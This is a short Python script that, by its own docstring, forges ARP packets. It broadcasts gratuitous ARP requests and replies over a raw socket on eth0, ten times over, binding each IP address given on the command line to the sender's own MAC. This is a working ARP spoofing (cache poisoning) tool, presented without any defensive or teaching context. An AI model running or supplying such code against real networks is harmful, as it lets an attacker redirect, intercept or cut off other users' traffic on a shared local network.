"""Claims addresses that are not the sender's, by forged ARP answers and questions to everybody.

  arp.py ADDRESS ...
"""
import socket
import struct
import sys
import time

link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("eth0", 0x0806))
with open("/sys/class/net/eth0/address") as file:
    own = bytes.fromhex(file.read().strip().replace(":", ""))
everybody = b"\xff" * 6

for _ in range(10):
    for address in map(socket.inet_aton, sys.argv[1:]):
        for operation in (1, 2):
            arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + own + address + everybody + address
            link.send(everybody + own + b"\x08\x06" + arp)
    time.sleep(0.05)
